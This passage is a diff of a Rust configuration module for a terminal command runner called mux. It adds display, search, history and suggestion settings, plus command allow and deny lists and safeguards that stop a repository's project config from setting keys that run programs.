@@ -1,24 +1,81 @@
-use serde::Deserialize;
-use std::path::Path;
+use ratatui::style::Color;
+use serde::{Deserialize, Deserializer, Serialize};
+use std::path::{Path, PathBuf};
+use std::str::FromStr;
+
+use crate::history::Shell;
+use crate::searcher::{DEFAULT_FREQUENCY_WEIGHT, DEFAULT_FUZZY_WEIGHT, DEFAULT_SYNC_BATCH_SIZE, MatchAlgorithm, RankBy};
 
 /// Top-level configuration for mux.
 ///
 /// Loaded from `$XDG_CONFIG_HOME/mux/config.toml`.
 /// All fields are optional — missing values use defaults.
-#[derive(Debug, Clone, Deserialize)]
+#[derive(Debug, Clone, Default, Deserialize)]
 #[serde(default)]
 pub struct Config {
     pub runner: RunnerConfig,
     pub output: OutputConfig,
     pub logging: LoggingConfig,
+    pub theme: ThemeConfig,
+    pub tui: TuiConfig,
+    pub keymap: KeymapConfig,
+    pub history: HistoryConfig,
+    pub search: SearchConfig,
+    pub suggest: SuggestConfig,
+    pub sync: SyncConfig,
+    pub db: DbConfig,
+    /// `[[pipes]]`: keys that send the selection to an external program
+    pub pipes: Vec<PipeConfig>,
 }
 
 #[derive(Debug, Clone, Deserialize)]
 #[serde(default)]
 pub struct RunnerConfig {
     /// Maximum number of tasks that can run concurrently.
-    /// Tasks beyond this limit are queued.
+    /// Tasks beyond this limit are queued; `0` means no limit.
+    ///
+    /// Defaults to the number of CPUs: a fixed large value lets a big
+    /// parallel block of CPU-bound commands swamp a laptop, while I/O-bound
+    /// work (ssh, curl) can raise it explicitly.
     pub max_concurrent: usize,
+    /// Notify when a task (or a whole parallel batch) runs longer than this
+    /// many seconds. Unset disables notifications.
+    pub notify_after_secs: Option<u64>,
+    /// Ring the terminal bell when a notification fires.
+    pub notify_bell: bool,
+    /// Show a desktop notification when a notification fires.
+    pub notify_desktop: bool,
+    /// Append task events (started, line, completed) as JSON lines to this
+    /// file. Unset by default.
+    pub event_file: Option<PathBuf>,
+    /// Send the same events to a listening Unix domain socket (Unix only).
+    /// Unset by default.
+    pub event_socket: Option<PathBuf>,
+    /// Output lines queued between running tasks and the display. When it's
+    /// full, tasks wait for the display to catch up and the output pane shows
+    /// "output throttled".
+    pub output_buffer: usize,
+    /// Read `KEY=value` lines from a `.env` file at startup and set them in
+    /// the environment of every task. Variables mux already has win.
+    pub load_dotenv: bool,
+    /// File read with `load_dotenv`; defaults to `.env` in the current directory.
+    pub dotenv_path: Option<PathBuf>,
+    /// Submitted commands longer than this many bytes are neither run nor
+    /// recorded, e.g. after an accidental huge paste. 0 means no limit.
+    pub max_command_length: usize,
+    /// Directories commands may run in, e.g. `["~/work"]`. A command is
+    /// refused when mux's working directory or a `cd` in it is outside all of
+    /// them. Empty (the default) allows everywhere.
+    pub allowed_cwd: Vec<PathBuf>,
+    /// Regular expressions for the only commands that may run, e.g.
+    /// `["^git (status|log)", "^ls\\b"]`. Empty (the default) allows any.
+    pub allowlist: Vec<String>,
+    /// Regular expressions for commands that are refused, e.g. `["^rm\\b"]`;
+    /// checked before `allowlist`. mux's own commands are never refused.
+    pub denylist: Vec<String>,
+    /// Milliseconds a cancelled task gets to clean up after SIGTERM before
+    /// it's sent SIGKILL. 0 kills it straight away.
+    pub kill_grace_ms: u64,
 }
 
 #[derive(Debug, Clone, Deserialize)]
@@ -26,45 +83,501 @@ pub struct RunnerConfig {
 pub struct OutputConfig {
     /// Maximum number of output lines kept in memory.
     pub max_lines: usize,
+    /// Maximum number of lines buffered per task. Lines beyond this are
+    /// suppressed so one chatty task can't evict everyone else's output.
+    /// 0 means no limit.
+    pub max_lines_per_task: usize,
     /// Horizontal padding (spaces) inside output boxes.
     pub box_padding_horizontal: usize,
     /// Vertical padding (empty lines) inside output boxes.
     pub box_padding_vertical: usize,
+    /// How lines wider than the output box are displayed.
+    pub long_lines: LongLineMode,
+    /// Spaces to indent the continuation rows of wrapped lines by, so they
+    /// stand apart from the next line. Only used with `long_lines = "wrap"`.
+    pub wrap_indent: usize,
+    /// Show bytes read and throughput next to the runtime in box footers.
+    pub show_throughput: bool,
+    /// Put the command each task ran, after substitution, in its box header,
+    /// truncated to fit.
+    pub show_command: bool,
+    /// Keep OSC 8 hyperlinks printed by tasks clickable. When false, or in
+    /// terminals without OSC 8 support, the link text is shown.
+    pub hyperlinks: bool,
+    /// Prefix each line of task output with the time it arrived (`HH:MM:SS`).
+    pub line_timestamps: bool,
+    /// Show consecutive identical lines of a task once, followed by how many
+    /// times it was printed, e.g. `retrying (×40)`.
+    pub collapse_repeats: bool,
+    /// Show a single command's output without a box, followed by one dim
+    /// rule with its runtime. Parallel tasks keep their boxes.
+    pub compact: bool,
+    /// Lay completed parallel boxes out side by side, this many to a row,
+    /// in equal widths. 1 stacks them; single commands are always full width.
+    pub parallel_columns: usize,
+    /// Characters used to draw output boxes.
+    pub box_style: BoxStyle,
+    /// Output lines longer than this many bytes are cut and marked
+    /// `… (truncated)`. 0 keeps lines whole.
+    pub max_line_length: usize,
+    /// A command's box is drawn once it completes. Commands still running
+    /// after this many milliseconds are listed as running in the output
+    /// title; quicker ones never show an intermediate state.
+    pub fast_command_grace_ms: u64,
+    /// How completed parallel tasks are drawn.
+    pub parallel_style: ParallelStyle,
+    /// Replace the output of a command that succeeds with one line,
+    /// `✓ cmd (1.2s)`. Failed commands still get their full box.
+    pub quiet_success: bool,
+    /// Regular expressions for commands that get the one-line summary on
+    /// success even with `quiet_success` off, e.g. `'^cargo fmt'`.
+    pub quiet_success_commands: Vec<String>,
+}
+
+/// Layout of completed parallel tasks.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum ParallelStyle {
+    /// A box per task.
+    #[default]
+    Boxes,
+    /// A task that printed a single line is a table row: its label, padded
+    /// to line up with the batch's other labels, then the line. Tasks with
+    /// more output still get a box.
+    Table,
+}
+
+/// Character set for output box borders.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum BoxStyle {
+    /// Unicode box-drawing characters.
+    #[default]
+    Unicode,
+    /// `+`, `-` and `|`, for terminals or fonts without box-drawing glyphs.
+    Ascii,
+    /// No borders; labels and runtimes are still shown.
+    None,
+}
+
+/// Display strategy for output lines wider than the box.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum LongLineMode {
+    /// Cut the line at the box edge (styling of the kept part is preserved).
+    #[default]
+    Truncate,
+    /// Continue the line on the following rows.
+    Wrap,
 }
 
 #[derive(Debug, Clone, Deserialize)]
 #[serde(default)]
 pub struct LoggingConfig {
+    /// Write logs at all. When false nothing is written and log calls are no-ops.
+    pub enabled: bool,
+    /// Log directory. Defaults to `$XDG_STATE_HOME/mux/logs`; `~` and
+    /// environment variables are expanded.
+    pub dir: Option<PathBuf>,
     /// Maximum log file size in megabytes before rotation.
     pub max_file_size_mb: u64,
     /// Number of archived log files to keep.
     pub max_archives: u32,
+    /// Program started with the TUI that receives every line of task output
+    /// on stdin, e.g. `"logger -t mux"`. Split into words like a shell
+    /// command, without running a shell.
+    pub output_pipe: Option<String>,
+}
+
+#[derive(Debug, Clone, Default, Deserialize)]
+#[serde(default)]
+pub struct ThemeConfig {
+    /// Terminal background the palette is chosen for.
+    pub background: Background,
+    /// Color of the separator line drawn after single (non-boxed) commands.
+    /// Defaults to the palette's dim color.
+    pub separator_color: Option<ThemeColor>,
+    /// Default color for output text without its own ANSI colors.
+    /// Defaults to the palette's text color.
+    pub output_color: Option<ThemeColor>,
+}
+
+/// Terminal background brightness, used to pick a readable palette.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum Background {
+    #[default]
+    Dark,
+    Light,
+    /// Ask the terminal at startup, falling back to dark.
+    Auto,
+}
+
+#[derive(Debug, Clone, Deserialize)]
+#[serde(default)]
+pub struct TuiConfig {
+    /// Quit after this many seconds without input while no tasks are running.
+    /// 0 disables the idle timeout.
+    pub idle_timeout_secs: u64,
+    /// strftime pattern for the date Alt+T inserts at the cursor.
+    pub date_format: String,
+    /// strftime pattern for the date and time Alt+Shift+T inserts; `%s`
+    /// gives the Unix epoch.
+    pub datetime_format: String,
+    /// On exit, print the session's output to the normal screen as plain
+    /// text, so it stays in the terminal's scrollback.
+    pub echo_on_exit: bool,
+    /// What Enter does when the input is empty.
+    pub empty_enter: EmptyEnter,
+    /// Where the input line is docked. The suggestion panel sits between it
+    /// and the output either way.
+    pub input_position: InputPosition,
+}
+
+/// Edge of the screen the input line is docked to.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum InputPosition {
+    /// Below the output, like a shell prompt.
+    #[default]
+    Bottom,
+    /// Above the output, like a search bar.
+    Top,
+}
+
+/// Action for Enter on an empty input.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum EmptyEnter {
+    /// Nothing.
+    #[default]
+    None,
+    /// Draw a horizontal rule across the output, as a section break.
+    Separator,
+    /// Run the most recently used command again, like Ctrl+R.
+    RerunLast,
+}
+
+#[derive(Debug, Clone, Default, Deserialize)]
+#[serde(default)]
+pub struct KeymapConfig {
+    /// What Esc does in the input line.
+    pub esc: EscAction,
+}
+
+/// Action for Esc in the input line.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum EscAction {
+    /// Start quitting, like Ctrl+C: a second press within a second quits.
+    #[default]
+    Quit,
+    /// Clear the input and its suggestions first; quit as above once the
+    /// input is already empty.
+    ClearThenQuit,
+}
+
+impl Default for TuiConfig {
+    fn default() -> Self {
+        Self {
+            idle_timeout_secs: 0,
+            date_format: "%Y-%m-%d".to_string(),
+            datetime_format: "%Y-%m-%d_%H%M%S".to_string(),
+            echo_on_exit: false,
+            empty_enter: EmptyEnter::None,
+            input_position: InputPosition::Bottom,
+        }
+    }
+}
+
+#[derive(Debug, Clone, Deserialize)]
+#[serde(default)]
+pub struct HistoryConfig {
+    /// Extra history files with one command per line (for shells mux doesn't
+    /// know). `~` and environment variables are expanded.
+    pub plain_files: Vec<PathBuf>,
+    /// Shell command whose stdout (one command per line) is indexed at
+    /// startup, e.g. a script printing a team's runbook commands.
+    pub command_source: Option<String>,
+    /// Add commands run in mux to the history database and suggestions.
+    /// Off makes mux a pure launcher over the shell history.
+    pub record_own_commands: bool,
+    /// Remove ANSI escape sequences and control characters from commands
+    /// before they're stored, so pasted color codes don't end up in search.
+    pub strip_ansi: bool,
+    /// Store commands without trailing `# comments`, so `make deploy` and
+    /// `make deploy # prod` count as one command.
+    pub strip_comments: bool,
+    /// Prompts removed from the start of commands read from history files,
+    /// for sessions pasted into them along with their `$ `. Set to `[]` to
+    /// import commands as they are. A root prompt's `# ` isn't stripped by
+    /// default: it would turn a commented-out line into a command.
+    pub strip_prompt_prefixes: Vec<String>,
+}
+
+#[derive(Debug, Clone, Deserialize)]
+#[serde(default)]
+pub struct SearchConfig {
+    /// Split the query on spaces and require every term to match, in any
+    /// order (`docker prune` finds `docker image prune -a`).
+    pub match_all_terms: bool,
+    /// Order results by `frequency`, `recency` (most recently used first)
+    /// or `balanced` (both).
+    pub rank_by: RankBy,
+    /// How queries are fuzzy matched: `default`, `paths` (bonuses after `/`
+    /// for every query), `prefix` (favour matches near the start),
+    /// `smartcase` (case-sensitive when the query has an uppercase letter)
+    /// or `strict` (case-sensitive, accented letters only match themselves).
+    pub algorithm: MatchAlgorithm,
+    /// Multiplier for how well a command matches the query.
+    pub fuzzy_weight: u32,
+    /// Points added per use of a command; raise it to favour habits over
+    /// close matches, or set `0` to rank by match quality alone.
+    pub frequency_weight: u32,
+    /// Match queries containing `/` the way file paths are matched, favouring
+    /// characters right after a `/`.
+    pub path_aware: bool,
+    /// Queries shorter than this many characters skip fuzzy matching and list
+    /// the most used commands starting with them; raise it to keep the first
+    /// keystrokes fast on a very large history.
+    pub min_fuzzy_length: usize,
+    /// Experimental: favour commands usually run around the current hour and
+    /// on the current weekday, e.g. standup scripts in the morning.
+    pub time_aware: bool,
+    /// Only suggest commands starting with the query's first word, ranked
+    /// by fuzzy match and usage as usual among those.
+    pub anchor_start: bool,
+    /// Lock suggestions to the query's first word: a command's first word
+    /// must equal it (or start with it while it's being typed), and only the
+    /// rest of the query is fuzzy matched, against the rest of the command.
+    pub exact_first_token: bool,
+    /// Rank commands that often fail in mux lower: a command whose runs all
+    /// failed loses up to this percentage of its score. The failure rate is
+    /// smoothed, so one failed run costs little. 0 (the default) is off.
+    pub penalize_failures: u32,
 }
 
-impl Default for Config {
+#[derive(Debug, Clone, Deserialize)]
+#[serde(default)]
+pub struct SyncConfig {
+    /// Shells whose history is read at startup, e.g. `["fish"]` on a
+    /// fish-only machine. Unset reads bash, zsh, fish and ksh, and cmd on
+    /// Windows. The login shell from `$SHELL` is always read first.
+    pub shells: Option<Vec<Shell>>,
+    /// Sync again every this many seconds while mux runs, so commands from
+    /// other shells show up in suggestions without a restart. 0 (the
+    /// default) only syncs at startup.
+    pub interval_secs: u64,
+    /// History entries written to the database per transaction. A first
+    /// sync of a huge history commits as it goes, and resumes where it
+    /// stopped if interrupted. 0 writes each sync in one transaction.
+    pub batch_size: usize,
+}
+
+impl Default for SyncConfig {
+    fn default() -> Self {
+        Self {
+            shells: None,
+            interval_secs: 0,
+            batch_size: DEFAULT_SYNC_BATCH_SIZE,
+        }
+    }
+}
+
+#[derive(Debug, Clone, Default, Deserialize)]
+#[serde(default)]
+pub struct DbConfig {
+    /// Rebuild the history database with `VACUUM` when mux exits, giving
+    /// back the space left by deleted and updated commands. Skipped while
+    /// another mux is using the database.
+    pub vacuum_on_exit: bool,
+}
+
+/// A key bound to a program that receives the highlighted suggestion (or,
+/// with the output focused, the box in view) on stdin
+#[derive(Debug, Clone, PartialEq, Deserialize)]
+pub struct PipeConfig {
+    /// e.g. `"alt+c"` or `"ctrl+alt+n"`; takes precedence over built-in keys
+    pub key: String,
+    /// Program and arguments, split like shell words but not run by a shell,
+    /// e.g. `"wl-copy"` or `"tee -a /home/me/commands.txt"`
+    pub command: String,
+}
+
+#[derive(Debug, Clone, Deserialize)]
+#[serde(default)]
+pub struct SuggestConfig {
+    /// Compute and show suggestions while typing. When false the suggestion
+    /// panel and inline preview are hidden; it can be toggled at runtime.
+    pub enabled: bool,
+    /// Where suggestions appear. Alt+V cycles through the choices, and the
+    /// last one picked is remembered across sessions.
+    pub display: SuggestionDisplay,
+    /// Offer `flag value` pairs used together in history (`--target
+    /// x86_64-unknown-linux-gnu`) as single suggestions
+    pub argument_pairs: bool,
+    /// When a suggestion was picked with Tab or the arrow keys, Enter
+    /// accepts it into the input instead of submitting; the next Enter
+    /// submits. Typing and pressing Enter still runs the input as typed.
+    pub enter_accepts: bool,
+    /// Space first finishes the word being typed from the top suggestion,
+    /// when every suggestion that continues the input agrees on that word
+    pub space_accepts: bool,
+    /// Most full commands in the suggestion list; 0 for no cap. Setting it
+    /// lists argument and value suggestions after the matching commands,
+    /// instead of only when no command matches.
+    pub max_commands: usize,
+    /// Most argument suggestions (flags, combinations and pairs); 0 for no cap.
+    pub max_args: usize,
+    /// Most value suggestions; 0 for no cap.
+    pub max_values: usize,
+    /// Commands used fewer times than this aren't suggested as full
+    /// commands; they stay in history and search. Alt+A suggests them too
+    /// for the session.
+    pub min_frequency: u32,
+}
+
+impl Default for SearchConfig {
+    fn default() -> Self {
+        Self {
+            match_all_terms: false,
+            rank_by: RankBy::Frequency,
+            algorithm: MatchAlgorithm::Default,
+            fuzzy_weight: DEFAULT_FUZZY_WEIGHT,
+            frequency_weight: DEFAULT_FREQUENCY_WEIGHT,
+            path_aware: true,
+            min_fuzzy_length: 1,
+            time_aware: false,
+            anchor_start: false,
+            exact_first_token: false,
+            penalize_failures: 0,
+        }
+    }
+}
+
+impl Default for SuggestConfig {
     fn default() -> Self {
         Self {
-            runner: RunnerConfig::default(),
-            output: OutputConfig::default(),
-            logging: LoggingConfig::default(),
+            enabled: true,
+            display: SuggestionDisplay::Both,
+            argument_pairs: false,
+            enter_accepts: false,
+            space_accepts: false,
+            max_commands: 0,
+            max_args: 0,
+            max_values: 0,
+            min_frequency: 1,
+        }
+    }
+}
+
+/// How suggestions are shown while typing.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Deserialize, Serialize)]
+#[serde(rename_all = "lowercase")]
+pub enum SuggestionDisplay {
+    /// The suggestion panel and the inline ghost text.
+    #[default]
+    Both,
+    /// Only the inline ghost text, like fish autosuggestions.
+    Ghost,
+    /// Only the suggestion panel.
+    Panel,
+}
+
+impl SuggestionDisplay {
+    /// The next mode in the Alt+V cycle
+    pub fn next(self) -> Self {
+        match self {
+            Self::Both => Self::Ghost,
+            Self::Ghost => Self::Panel,
+            Self::Panel => Self::Both,
         }
     }
+
+    pub fn shows_panel(self) -> bool {
+        self != Self::Ghost
+    }
+
+    pub fn shows_ghost(self) -> bool {
+        self != Self::Panel
+    }
+}
+
+/// A color from the config: a name (`"cyan"`, `"darkgray"`), an ANSI index
+/// (`"208"`) or a hex value (`"#ff8800"`).
+#[derive(Debug, Clone, Copy, PartialEq)]
+pub struct ThemeColor(pub Color);
+
+impl<'de> Deserialize<'de> for ThemeColor {
+    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
+        let s = String::deserialize(deserializer)?;
+        Color::from_str(&s)
+            .map(ThemeColor)
+            .map_err(|_| serde::de::Error::custom(format!("invalid color: {:?}", s)))
+    }
 }
 
 impl Default for RunnerConfig {
     fn default() -> Self {
         Self {
-            max_concurrent: 64,
+            max_concurrent: default_max_concurrent(),
+            notify_after_secs: None,
+            notify_bell: true,
+            notify_desktop: false,
+            event_file: None,
+            event_socket: None,
+            output_buffer: 256,
+            load_dotenv: false,
+            dotenv_path: None,
+            max_command_length: 64 * 1024,
+            allowed_cwd: Vec::new(),
+            allowlist: Vec::new(),
+            denylist: Vec::new(),
+            kill_grace_ms: crate::runner::DEFAULT_KILL_GRACE_MS,
         }
     }
 }
 
+/// Available CPUs, or 4 when the count can't be determined
+fn default_max_concurrent() -> usize {
+    std::thread::available_parallelism().map_or(4, |n| n.get())
+}
+
 impl Default for OutputConfig {
     fn default() -> Self {
         Self {
             max_lines: 10_000,
+            max_lines_per_task: 2_000,
             box_padding_horizontal: 1,
             box_padding_vertical: 0,
+            long_lines: LongLineMode::Truncate,
+            wrap_indent: 0,
+            show_throughput: false,
+            show_command: false,
+            hyperlinks: true,
+            line_timestamps: false,
+            collapse_repeats: false,
+            compact: false,
+            parallel_columns: 1,
+            box_style: BoxStyle::Unicode,
+            parallel_style: ParallelStyle::Boxes,
+            quiet_success: false,
+            quiet_success_commands: Vec::new(),
+            max_line_length: 4096,
+            fast_command_grace_ms: 200,
+        }
+    }
+}
+
+impl Default for HistoryConfig {
+    fn default() -> Self {
+        Self {
+            plain_files: Vec::new(),
+            command_source: None,
+            record_own_commands: true,
+            strip_ansi: true,
+            strip_comments: false,
+            strip_prompt_prefixes: vec!["$ ".to_string(), "> ".to_string()],
         }
     }
 }
@@ -72,31 +585,158 @@ impl Default for OutputConfig {
 impl Default for LoggingConfig {
     fn default() -> Self {
         Self {
+            enabled: true,
+            dir: None,
             max_file_size_mb: 10,
             max_archives: 5,
+            output_pipe: None,
         }
     }
 }
 
 impl Config {
-    /// Load config from a TOML file. Returns defaults if the file doesn't exist.
-    /// Logs a warning and returns defaults if the file exists but is malformed.
-    pub fn load(path: &Path) -> Self {
+    /// Load config from several TOML files, later files taking precedence:
+    /// defaults ← layers[0] ← layers[1] ← ... ← project
+    ///
+    /// Layers are merged key by key, so a layer only overrides the fields it sets.
+    /// Missing files are skipped; malformed ones are skipped with a warning.
+    ///
+    /// Cloning a repository must not be enough to run code, so the project
+    /// `.mux.toml` can't set keys that run a program or write to a path of
+    /// its choosing, nor replace a global `allowlist`/`allowed_cwd` (it may
+    /// set them where the global config doesn't; its `denylist` adds to the
+    /// global one). Such keys are dropped, and returned as warnings.
+    pub fn load_layered(layers: &[PathBuf], project: Option<&Path>) -> (Self, Vec<String>) {
+        let mut merged = Self::merge_layers(layers);
+        let mut warnings = Vec::new();
+        if let Some(path) = project
+            && let Some(table) = Self::read_layer(path)
+        {
+            let table = restrict_project_layer(&merged, table, path, &mut warnings);
+            merge_tables(&mut merged, table);
+        }
+        (Self::from_table(merged), warnings)
+    }
+
+    fn merge_layers(layers: &[PathBuf]) -> toml::Table {
+        let mut merged = toml::Table::new();
+        for path in layers {
+            if let Some(table) = Self::read_layer(path) {
+                merge_tables(&mut merged, table);
+            }
+        }
+        merged
+    }
+
+    fn from_table(merged: toml::Table) -> Self {
+        match Self::deserialize(merged) {
+            Ok(config) => config,
+            Err(e) => {
+                log::warn!("Failed to apply layered config: {}", e);
+                Self::default()
+            }
+        }
+    }
+
+    /// Read and validate a single config layer
+    fn read_layer(path: &Path) -> Option<toml::Table> {
         if !path.exists() {
-            return Self::default();
+            return None;
         }
 
-        match std::fs::read_to_string(path) {
-            Ok(contents) => match toml::from_str(&contents) {
-                Ok(config) => config,
-                Err(e) => {
-                    log::warn!("Failed to parse config at {}: {}", path.display(), e);
-                    Self::default()
-                }
-            },
+        let contents = match std::fs::read_to_string(path) {
+            Ok(contents) => contents,
             Err(e) => {
                 log::warn!("Failed to read config at {}: {}", path.display(), e);
-                Self::default()
+                return None;
+            }
+        };
+
+        // Validate the layer on its own so errors point at the right file
+        if let Err(e) = toml::from_str::<Config>(&contents) {
+            log::warn!("Failed to parse config at {}: {}", path.display(), e);
+            return None;
+        }
+
+        log::info!("Loaded config layer {}", path.display());
+        contents.parse::<toml::Table>().ok()
+    }
+}
+
+/// Keys a project `.mux.toml` may not set: each runs a program, or writes
+/// to or loads from a path of the file's choosing
+const PROJECT_DENIED_KEYS: &[(&str, &str)] = &[
+    ("history", "command_source"),
+    ("history", "plain_files"),
+    ("logging", "output_pipe"),
+    ("logging", "dir"),
+    ("runner", "event_file"),
+    ("runner", "event_socket"),
+    ("runner", "load_dotenv"),
+    ("runner", "dotenv_path"),
+];
+
+/// `layer` (a project config at `path`) without what it may not set, given
+/// the config merged so far in `base`. See [`Config::load_layered`].
+fn restrict_project_layer(
+    base: &toml::Table,
+    mut layer: toml::Table,
+    path: &Path,
+    warnings: &mut Vec<String>,
+) -> toml::Table {
+    let mut ignore = |what: &str, why: &str| {
+        warnings.push(format!("{}: ignored {}: {}", path.display(), what, why));
+    };
+    const RUNS_CODE: &str = "a project config can't set it; move it to the global config";
+
+    if layer.remove("pipes").is_some() {
+        ignore("[[pipes]]", RUNS_CODE);
+    }
+    for (section, key) in PROJECT_DENIED_KEYS {
+        if let Some(toml::Value::Table(table)) = layer.get_mut(*section)
+            && table.remove(*key).is_some()
+        {
+            ignore(&format!("[{}] {}", section, key), RUNS_CODE);
+        }
+    }
+
+    let base_runner = base.get("runner").and_then(toml::Value::as_table);
+    let base_list = |key: &str| {
+        base_runner
+            .and_then(|runner| runner.get(key))
+            .and_then(toml::Value::as_array)
+            .cloned()
+            .unwrap_or_default()
+    };
+    if let Some(toml::Value::Table(runner)) = layer.get_mut("runner") {
+        for key in ["allowlist", "allowed_cwd"] {
+            if runner.contains_key(key) && !base_list(key).is_empty() {
+                runner.remove(key);
+                ignore(
+                    &format!("[runner] {}", key),
+                    "a project config can't replace the global one",
+                );
+            }
+        }
+        if let Some(toml::Value::Array(denylist)) = runner.get_mut("denylist") {
+            let mut merged = base_list("denylist");
+            merged.append(denylist);
+            *denylist = merged;
+        }
+    }
+    layer
+}
+
+/// Recursively merge `overlay` into `base`. Nested tables are merged; any other
+/// value in `overlay` replaces the one in `base`.
+fn merge_tables(base: &mut toml::Table, overlay: toml::Table) {
+    for (key, value) in overlay {
+        match (base.get_mut(&key), value) {
+            (Some(toml::Value::Table(base_table)), toml::Value::Table(overlay_table)) => {
+                merge_tables(base_table, overlay_table);
+            }
+            (_, value) => {
+                base.insert(key, value);
             }
         }
     }
@@ -109,12 +749,84 @@ mod tests {
     #[test]
     fn test_defaults() {
         let config = Config::default();
-        assert_eq!(config.runner.max_concurrent, 64);
+        assert_eq!(config.runner.max_concurrent, default_max_concurrent());
+        assert!(config.runner.max_concurrent > 0);
+        assert_eq!(config.runner.notify_after_secs, None);
+        assert!(config.runner.notify_bell);
+        assert!(!config.runner.notify_desktop);
+        assert_eq!(config.runner.event_file, None);
+        assert_eq!(config.runner.output_buffer, 256);
+        assert!(!config.runner.load_dotenv);
+        assert_eq!(config.runner.dotenv_path, None);
+        assert_eq!(config.runner.max_command_length, 65_536);
+        assert!(config.runner.allowed_cwd.is_empty());
+        assert!(config.runner.allowlist.is_empty());
+        assert!(config.runner.denylist.is_empty());
+        assert_eq!(config.runner.kill_grace_ms, 2000);
         assert_eq!(config.output.max_lines, 10_000);
+        assert_eq!(config.output.max_lines_per_task, 2_000);
         assert_eq!(config.output.box_padding_horizontal, 1);
         assert_eq!(config.output.box_padding_vertical, 0);
+        assert_eq!(config.output.long_lines, LongLineMode::Truncate);
+        assert_eq!(config.output.wrap_indent, 0);
+        assert!(!config.output.show_throughput);
+        assert!(!config.output.show_command);
+        assert!(config.output.hyperlinks);
+        assert_eq!(config.output.parallel_columns, 1);
+        assert!(!config.output.line_timestamps);
+        assert!(!config.output.collapse_repeats);
+        assert!(!config.output.compact);
+        assert_eq!(config.output.box_style, BoxStyle::Unicode);
+        assert_eq!(config.output.max_line_length, 4096);
+        assert_eq!(config.output.fast_command_grace_ms, 200);
+        assert_eq!(config.output.parallel_style, ParallelStyle::Boxes);
+        assert!(!config.output.quiet_success);
+        assert!(config.output.quiet_success_commands.is_empty());
         assert_eq!(config.logging.max_file_size_mb, 10);
         assert_eq!(config.logging.max_archives, 5);
+        assert!(config.logging.enabled);
+        assert_eq!(config.logging.dir, None);
+        assert_eq!(config.logging.output_pipe, None);
+        assert_eq!(config.theme.background, Background::Dark);
+        assert_eq!(config.theme.separator_color, None);
+        assert_eq!(config.theme.output_color, None);
+        assert_eq!(config.tui.idle_timeout_secs, 0);
+        assert_eq!(config.tui.date_format, "%Y-%m-%d");
+        assert_eq!(config.tui.datetime_format, "%Y-%m-%d_%H%M%S");
+        assert!(!config.tui.echo_on_exit);
+        assert_eq!(config.tui.empty_enter, EmptyEnter::None);
+        assert_eq!(config.tui.input_position, InputPosition::Bottom);
+        assert_eq!(config.keymap.esc, EscAction::Quit);
+        assert!(config.pipes.is_empty());
+        assert!(config.history.plain_files.is_empty());
+        assert_eq!(config.history.command_source, None);
+        assert!(config.history.record_own_commands);
+        assert!(config.history.strip_ansi);
+        assert!(!config.history.strip_comments);
+        assert_eq!(config.history.strip_prompt_prefixes, ["$ ", "> "]);
+        assert!(!config.search.match_all_terms);
+        assert_eq!(config.search.rank_by, RankBy::Frequency);
+        assert_eq!(config.search.algorithm, MatchAlgorithm::Default);
+        assert_eq!(config.search.fuzzy_weight, 1);
+        assert_eq!(config.search.frequency_weight, 10);
+        assert!(config.search.path_aware);
+        assert_eq!(config.search.min_fuzzy_length, 1);
+        assert!(!config.search.time_aware);
+        assert!(!config.search.anchor_start);
+        assert!(!config.search.exact_first_token);
+        assert_eq!(config.search.penalize_failures, 0);
+        assert!(config.suggest.enabled);
+        assert_eq!(config.suggest.display, SuggestionDisplay::Both);
+        assert!(!config.suggest.enter_accepts);
+        assert!(!config.suggest.space_accepts);
+        assert_eq!(config.suggest.max_commands, 0);
+        assert_eq!(config.suggest.max_args, 0);
+        assert_eq!(config.suggest.max_values, 0);
+        assert_eq!(config.suggest.min_frequency, 1);
+        assert_eq!(config.sync.shells, None);
+        assert_eq!(config.sync.interval_secs, 0);
+        assert_eq!(config.sync.batch_size, 5000);
+        assert!(!config.db.vacuum_on_exit);
     }
 
     #[test]
@@ -135,28 +847,324 @@ max_concurrent = 8
         let toml = r#"
 [runner]
 max_concurrent = 16
+notify_after_secs = 30
+notify_bell = false
+notify_desktop = true
+event_file = "/tmp/mux-events.jsonl"
+output_buffer = 1024
+load_dotenv = true
+dotenv_path = "~/deploy.env"
+max_command_length = 1000
+allowed_cwd = ["~/work", "/srv"]
+allowlist = ["^git "]
+denylist = ['\bpush\b']
+kill_grace_ms = 500
 
 [output]
 max_lines = 5000
+max_lines_per_task = 500
 box_padding_horizontal = 2
 box_padding_vertical = 1
+long_lines = "wrap"
+wrap_indent = 4
+show_throughput = true
+show_command = true
+hyperlinks = false
+line_timestamps = true
+collapse_repeats = true
+compact = true
+parallel_columns = 3
+box_style = "ascii"
+max_line_length = 200
+fast_command_grace_ms = 500
+parallel_style = "table"
+quiet_success = true
+quiet_success_commands = ['^cargo fmt']
 
 [logging]
+enabled = false
+dir = "/tmp/mux-logs"
 max_file_size_mb = 50
 max_archives = 10
+output_pipe = "logger -t mux"
+
+[theme]
+background = "light"
+separator_color = "yellow"
+output_color = "250"
+
+[tui]
+idle_timeout_secs = 300
+date_format = "%d.%m.%Y"
+datetime_format = "%s"
+echo_on_exit = true
+empty_enter = "rerun_last"
+input_position = "top"
+
+[keymap]
+esc = "clear_then_quit"
+
+[history]
+plain_files = ["~/.mksh_history"]
+command_source = "cat ~/runbook.txt"
+record_own_commands = false
+strip_ansi = false
+strip_comments = true
+strip_prompt_prefixes = ["% "]
+
+[search]
+match_all_terms = true
+rank_by = "recency"
+algorithm = "smartcase"
+fuzzy_weight = 2
+frequency_weight = 0
+path_aware = false
+min_fuzzy_length = 3
+time_aware = true
+anchor_start = true
+exact_first_token = true
+penalize_failures = 50
+
+[suggest]
+enabled = false
+display = "ghost"
+argument_pairs = true
+enter_accepts = true
+space_accepts = true
+max_commands = 5
